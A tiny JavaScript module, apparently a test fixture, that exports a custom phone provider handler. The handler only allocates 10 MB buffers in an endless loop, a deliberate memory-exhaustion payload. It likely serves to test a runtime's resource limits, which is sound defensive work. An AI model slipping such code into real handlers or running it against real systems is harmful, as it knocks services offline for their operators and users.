// SPDX-License-Identifier: Apache-2.0
exports.onExecuteCustomPhoneProvider = async () => { const all = []; for (;;) { all.push(Buffer.alloc(1e7, 1)); await new Promise(setImmediate); } };
